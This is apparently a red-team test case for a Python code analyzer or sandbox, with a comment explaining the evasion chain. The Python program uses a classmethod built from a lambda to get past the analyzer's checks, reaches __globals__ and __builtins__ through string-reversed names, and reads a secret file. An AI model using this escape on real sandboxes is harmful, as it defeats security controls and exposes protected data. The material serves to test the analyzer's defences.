# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: a classmethod made by calling classmethod() in the class body on a function that is no method
# (a lambda, a module-level def); objects._class_value only counts first parameters of defs decorated
# @classmethod, so returning that parameter hands out the class unnoticed; k.fetch on a parameter is then
# "bound" (objects._bound) and Reader.fetch runs with a namedtuple as self, whose FIELDS is ["__globals__"].
from collections import namedtuple




class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out

    kind = classmethod(lambda k: k)


Box = namedtuple("Box", "FIELDS")


def call_read(k, obj, fn):
    return k.fetch(obj, fn)


def helper():
    return 1


def run():
    box = Box(["".join(reversed("__slabolg__"))])
    got = call_read(Reader.kind(), box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run()
